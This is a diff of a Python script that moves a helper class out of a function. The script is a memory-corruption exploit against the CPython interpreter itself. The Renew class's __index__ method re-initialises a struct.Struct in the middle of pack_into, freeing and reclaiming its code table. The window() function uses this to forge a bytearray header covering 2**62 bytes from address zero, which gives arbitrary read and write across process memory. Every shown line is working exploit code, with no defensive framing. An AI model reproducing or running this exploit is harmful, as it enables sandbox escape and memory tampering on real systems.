@@ -19,6 +19,18 @@ from array import array
 HELD = []  # everything the write could land on, kept for good
 
 
+class Renew:
+    """The first value: asked for its number while `pack_into` walks the codes, it initialises the Struct twice."""
+
+    def __init__(self, packer, far):
+        self.packer, self.far = packer, far
+
+    def __index__(self):
+        self.packer.__init__("QQQQQ")  # a fresh table: the one the walk holds is freed
+        self.packer.__init__(f"Q{self.far - 8}xQQQQ")  # and taken again by these codes
+        return 0
+
+
 def window():
     """A bytearray whose header says it starts at address 0 and is 2**62 bytes long: any address."""
     for _ in range(20):
@@ -33,14 +45,8 @@ def window():
         HELD.append(packer)
         far = id(victim) - start + 16  # its size, then allocated, data and start pointers
 
-        class Renew:
-            def __index__(self):
-                packer.__init__("QQQQQ")  # a fresh table: the one the walk holds is freed
-                packer.__init__(f"Q{far - 8}xQQQQ")  # and taken again by these codes
-                return 0
-
         try:
-            packer.pack_into(buffer, 0, Renew(), 1 << 62, (1 << 62) + 1, 0, 0)
+            packer.pack_into(buffer, 0, Renew(packer, far), 1 << 62, (1 << 62) + 1, 0, 0)
         except Exception:
             return None
         if len(victim) == 1 << 62:
